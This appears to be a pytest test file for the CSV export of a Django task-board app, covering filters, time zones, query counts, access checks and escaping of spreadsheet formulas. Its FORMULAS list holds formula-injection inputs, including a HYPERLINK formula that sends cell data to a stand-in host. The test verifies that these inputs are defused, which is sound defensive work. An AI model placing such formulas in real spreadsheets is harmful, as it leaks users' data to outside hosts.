"""Lists as CSV sheets."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.base_user import AbstractBaseUser
from django.db import connection
from django.test.utils import CaptureQueriesContext

from taskboard.lists import export
from taskboard.models import Item, ItemStatus, Profile
from taskboard.steering import sheet
from tests.conftest import logged_in
from tests.factories import make_item, make_task

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1", "'=1", "'quoted",
    "Bücher-7", 'a "b", c;d', "plain",
]  # fmt: skip


def fetch(person: AbstractBaseUser, address: str) -> bytes:
    response = logged_in(person).get(address)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)  # type: ignore[attr-defined]


def read(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(), newline="")))


def test_tasks_are_written_with_the_search_and_order_at_hand(operator: AbstractBaseUser) -> None:
    task = make_task(goal="Shop", spent_micro=7_350_000, limit_micro=20_000_000)
    make_item(task, status=ItemStatus.DONE)
    make_item(task, status=ItemStatus.FAILED)
    make_task(goal="Shop of the press", spent_micro=9_000_000)
    make_task(goal="Other")
    rows = read(fetch(operator, "/tasks.csv?q=shop&sort=-cost"))
    assert [row["goal"] for row in rows] == ["Shop of the press", "Shop"]
    told = rows[1]
    assert (told["items"], told["done"], told["failed"]) == ("2", "1", "1")
    assert (told["spent_usd"], told["limit_usd"], rows[0]["limit_usd"]) == ("7.35", "20.00", "")
    assert tuple(told) == export.TASK_COLUMNS


def test_items_are_written_with_the_filter_at_hand(operator: AbstractBaseUser) -> None:
    task = make_task()
    make_item(task, "a", status=ItemStatus.DONE)
    make_item(task, "b", status=ItemStatus.FAILED)
    rows = read(fetch(operator, f"/tasks/{task.public_id}/items.csv?status=failed"))
    assert [row["key"] for row in rows] == ["b"]


def test_what_a_spreadsheet_would_run_is_only_text(operator: AbstractBaseUser) -> None:
    for text in FORMULAS:
        make_task(goal=text)
    cells = [row["goal"] for row in read(fetch(operator, "/tasks.csv?sort=created"))]
    assert cells == [f"'{text}" if n < 9 else text for n, text in enumerate(FORMULAS)]


def test_our_own_reading_gives_the_same_names(operator: AbstractBaseUser) -> None:
    task = make_task()
    for number, text in enumerate(FORMULAS):
        make_item(task, f"{text.strip()} {number}", label=text.strip())
    raw = fetch(operator, f"/tasks/{task.public_id}/items.csv")
    again = [(item.key, item.label) for item in sheet.read(raw)]
    assert again == list(Item.objects.filter(task=task).values_list("key", "label").order_by("position"))


@pytest.mark.parametrize("number", [-5, 0, 1_000_000])
def test_real_numbers_stay_numbers(number: int) -> None:
    lines = list(export.sheet(("n",), [[number]]))
    assert lines == ["n\r\n", f"{number}\r\n"]


def test_it_has_no_byte_order_mark_and_names_the_zone(operator: AbstractBaseUser) -> None:
    Profile.objects.create(user=operator, time_zone="Asia/Seoul")
    make_task(created_at=datetime(2026, 9, 10, 15, 30, tzinfo=UTC))
    raw = fetch(operator, "/tasks.csv")
    assert raw.startswith(b"task,goal")
    assert read(raw)[0]["created_at"] == "2026-09-11T00:30:00+09:00"


def test_it_takes_one_query_however_many_items_there_are(operator: AbstractBaseUser) -> None:
    task = make_task()
    address = f"/tasks/{task.public_id}/items.csv"
    make_item(task)
    with CaptureQueriesContext(connection) as few:
        fetch(operator, address)
    rows = [Item(task=task, key=f"n{n}", position=n, updated_at=task.created_at) for n in range(2, 1200)]
    Item.objects.bulk_create(rows)
    with CaptureQueriesContext(connection) as many:
        assert len(read(fetch(operator, address))) == 1199
    assert len(many) == len(few)


def test_a_search_that_makes_no_sense_is_told(operator: AbstractBaseUser) -> None:
    response = logged_in(operator).get("/tasks.csv?q=colour:red")
    assert response.status_code == 422
    assert "There is no “colour:”" in response.content.decode()


def test_it_is_not_for_strangers(outsider: AbstractBaseUser, client: object) -> None:
    assert logged_in(outsider).get("/tasks.csv").status_code == 403
    assert client.get("/tasks.csv").status_code == 302  # type: ignore[attr-defined]


def test_the_items_of_the_task_page_lead_to_their_sheet(operator: AbstractBaseUser) -> None:
    task = make_task()
    make_item(task, "a", status=ItemStatus.DONE)
    page = logged_in(operator).get(f"{task.get_absolute_url()}?status=done").content.decode()
    assert f'href="/tasks/{task.public_id}/items.csv?status=done"' in page


def test_what_no_database_takes_is_searched_without_harm(operator: AbstractBaseUser) -> None:
    task = make_task()
    assert read(fetch(operator, f"/tasks/{task.public_id}/items.csv?text=%00a&step=%00")) == []
    assert read(fetch(operator, "/tasks.csv?q=%00+owner:%00")) == []
